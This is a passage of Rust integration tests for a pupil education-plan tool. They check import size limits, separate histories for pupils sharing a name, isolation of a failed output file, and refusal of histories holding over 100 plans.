        &["new", "--from", "class.csv", "--out", "plans"],
        30,
    );
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert_says(
        &output,
        &[
            "more than 5000 rows",
            "export one year group or class at a time",
        ],
    );
    assert!(
        files(&scratch.0.join("plans")).is_empty(),
        "no plan is started"
    );
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
}

#[test]
fn two_pupils_of_one_name_get_a_history_each_and_one_pupils_failure_stops_no_other() {
    let scratch = Scratch::new("hostile-histories");
    let born = |date: &str| {
        common::CLEAN.replacen(
            "  date_of_birth: 2017-04-12\n",
            &format!("  date_of_birth: {date}\n"),
            1,
        )
    };
    scratch.write("sam-a.yaml", &born("2017-04-12"));
    scratch.write("sam-b.yaml", &born("2018-02-03"));
    scratch.write(
        "amara.yaml",
        &common::CLEAN.replacen("  name: Sam Example\n", "  name: Amara Okafor\n", 1),
    );
    scratch.write(
        "zofia.yaml",
        &common::CLEAN.replacen("  name: Sam Example\n", "  name: Zofia Nowak\n", 1),
    );
    // A folder where Amara's PDF would go: her documents cannot be written, the others can.
    std::fs::create_dir_all(scratch.0.join("out/amara-okafor-history.pdf"))
        .unwrap_or_else(|e| panic!("{e}"));
    let output = iep_in(
        &scratch.0,
        &["history", ".", "--to", "pdf,docx", "--out", "out"],
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let written: Vec<String> = files(&scratch.0.join("out"));
    assert_eq!(
        written,
        [
            "sam-example-2017-04-12-history.docx",
            "sam-example-2017-04-12-history.pdf",
            "sam-example-2018-02-03-history.docx",
            "sam-example-2018-02-03-history.pdf",
            "zofia-nowak-history.docx",
            "zofia-nowak-history.pdf",
        ]
    );
    assert_says(&output, &["amara-okafor-history.pdf"]);
    let listed = stdout(&output);
    for file in &written {
        assert_eq!(
            listed.matches(&format!("/{file}\n")).count(),
            1,
            "{file}: {listed}"
        );
    }
    assert!(
        listed.ends_with("4 plans of 4 pupils; 3 histories written, 1 not\n"),
        "{listed}"
    );
}

#[test]
fn a_history_of_more_plans_than_a_school_life_is_refused_before_its_pages() {
    let plan = common::parse(common::CLEAN).unwrap_or_else(|e| panic!("{e}"));
    let history = |plans: usize| {
        let mut histories = iep::History::of(std::iter::repeat_n(&plan, plans));
        assert_eq!(histories.len(), 1, "one pupil");
        histories.remove(0)
    };
    let most = 100; // the most plans a history holds
    assert!(history(most).document().is_ok());
    let refused = history(most + 1).document().err();
    let codes: Vec<iep::Code> = refused
        .iter()
        .flat_map(|e| e.diagnostics().iter().map(|d| d.code))
        .collect();
    assert_eq!(codes, [iep::Code::TooManyPages], "{refused:?}");
    assert!(
        refused.is_some_and(|e| e.to_string().starts_with("the history holds 101 plans")),
        "the refusal says how many plans"
    );
}
